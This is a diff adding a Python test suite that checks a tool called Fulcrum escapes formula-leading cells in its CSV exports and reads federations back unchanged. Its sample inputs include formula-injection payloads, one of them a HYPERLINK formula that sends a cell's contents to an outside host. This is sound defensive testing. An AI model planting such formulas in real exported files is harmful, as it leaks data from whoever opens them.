@@ -1,0 +1,142 @@
+"""No CSV that Fulcrum writes holds a formula, and a federation comes back from it the same."""
+
+import csv
+import io
+import json
+
+import pytest
+from hypothesis import example, given
+from hypothesis.strategies import composite, floats, integers, lists, none, sampled_from, text
+
+import fulcrum
+from fulcrum.cli.app import run
+from fulcrum.csv_text import csv_text, plain_cell
+from fulcrum.errors import FederationError
+from fulcrum.federation.reading import federation_from_bytes, read_federation
+from fulcrum.federation.structure import Federation
+from fulcrum.planning.exporting import exported
+from fulcrum.views.page_answers import federation_csv
+
+SIGNS = "=+-@\t\r\n＝＋－＠"
+EVIL = ['=HYPERLINK("http://example.org?"&A1)', "+1", "-2+3", "@SUM(A1)", "'=x", "''+y", "＝1"]
+CELLS = text(alphabet=[*SIGNS, "'", '"', ",", "a", " "])
+
+
+def cells_of(written_text):
+    return list(csv.reader(io.StringIO(written_text, newline="")))
+
+
+@given(CELLS)
+@example("'=")
+@example("''-1")
+@example("'s-Hertogenbosch")
+def test_every_text_comes_back_and_none_begins_like_a_formula(cell):
+    [[found]] = cells_of(csv_text([[cell]])) if cell else [[""]]
+    assert not found.startswith(tuple(SIGNS))
+    assert plain_cell(found) == cell
+
+
+@given(floats(allow_nan=False) | integers())
+def test_numbers_stay_numbers(number):
+    assert csv_text([[number]]) == f"{number}\n"
+
+
+def test_only_what_begins_like_a_formula_is_changed():
+    plain = ["lille", "a=b", "'s-Hertogenbosch", "", "3", "l'est"]
+    assert cells_of(csv_text([plain])) == [plain]
+
+
+@composite
+def federations(draw):
+    names = text(alphabet=["=", "+", "-", "@", "＝", "'", '"', ",", "a", "é"], min_size=1, max_size=6)
+    silos = draw(lists(names, min_size=1, max_size=6, unique=True))
+    regions = [draw(names) for _ in silos]
+    country = {region: draw(names) for region in regions}
+    return Federation.from_columns(
+        silo=silos,
+        records=[draw(integers(1, 2**53) | floats(1, 1e6)) for _ in silos],
+        tiers={"region": regions, draw(sampled_from(["country", "=tier", "'-tier"])): [country[r] for r in regions]},
+        epsilon=[draw(none() | floats(0.1, 9)) or float("nan") for _ in silos],
+        group=draw(none() | lists(names, min_size=len(silos), max_size=len(silos))),
+    )
+
+
+@given(federations())
+def test_a_federation_written_as_csv_is_read_back_the_same(federation):
+    table = federation_csv(federation)
+    assert federation_from_bytes(table.encode(), "a.csv").digest == federation.digest
+    assert not any(cell.startswith(("=", "+", "-", "@", "＝")) for row in cells_of(table) for cell in row)
+
+
+@pytest.fixture
+def evil(tmp_path):
+    sizes = {region: {f"{region}{k}": 100 * k for k in (1, 2)} for region in EVIL}
+    federation = Federation.from_sizes(sizes, outer={"=tier": {"@all": list(sizes)}}, name="evil")
+    path = tmp_path / "evil.csv"
+    path.write_text(federation_csv(federation), encoding="utf-8")
+    return federation, path
+
+
+def test_no_command_writes_a_formula(evil, tmp_path, capsys, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    federation, path = evil
+    assert read_federation(path).digest == federation.digest
+    options = ["--rounds", "3", "--epsilon", "1"]
+    assert run(["plan", str(path), *options, "-o", "plan.json"]) == 0
+    assert run(["plan", str(path), *options[:2], "--epsilon", "2", "-o", "other.json"]) == 0
+    capsys.readouterr()
+    for command in (
+        ["exposure", str(path)],
+        ["plan", str(path), *options],
+        ["compare", str(path), *options],
+        ["verify", "plan.json"],
+        ["diff", "plan.json", "other.json"],
+    ):
+        assert run([*command, "--format", "csv"]) in (0, 1)
+        out = capsys.readouterr().out
+        texts = [cell for row in cells_of(out) for cell in row if not _is_number(cell)]
+        assert texts
+        assert not any(cell.startswith(tuple(SIGNS)) for cell in texts), command
+    run(["exposure", str(path), "--format", "json"])
+    assert EVIL[0] in json.dumps(json.loads(capsys.readouterr().out), ensure_ascii=False).replace('\\"', '"')
+
+
+def _is_number(cell):
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return cell not in EVIL
+
+
+def test_a_plan_exported_as_csv_holds_no_formula(evil):
+    federation, _ = evil
+    rows = cells_of(exported(fulcrum.plan(federation, rounds=3, epsilon=1.0), "csv"))
+    names = [row[0] for row in rows[1:]]
+    assert [plain_cell(name) for name in names] == federation.silo_names.tolist()
+    assert not any(cell.startswith(tuple(SIGNS)) for row in rows for cell in row)
+
+
+def test_a_federation_that_no_csv_can_hold_is_not_written():
+    tree = b'tiers = ["station"]\n[station.north]\nlille = 800\n'
+    with pytest.raises(FederationError) as caught:
+        federation_csv(federation_from_bytes(tree, "stations.toml"))
+    assert str(caught.value).startswith(
+        "stations cannot be written as CSV: its header: the column 'region' is missing."
+    )
+
+
+@pytest.mark.parametrize(
+    ("tree", "message"),
+    [
+        ('[region.north]\n" lille" = 800\n', "a silo's name must have no space around it, got ' lille'"),
+        ('[region."north "]\nlille = 800\n', "a region's name must have no space around it, got 'north '"),
+        (
+            'tiers = ["region", "a "]\n[region.north]\nlille = 800\n["a "]\nb = ["north"]\n',
+            "a tier's name must have no space around it, got 'a '",
+        ),
+    ],
+)
+def test_a_name_that_a_table_would_trim_is_refused(tree, message):
+    with pytest.raises(FederationError, match=f": {message}$"):
+        federation_from_bytes(tree.encode(), "a.toml")
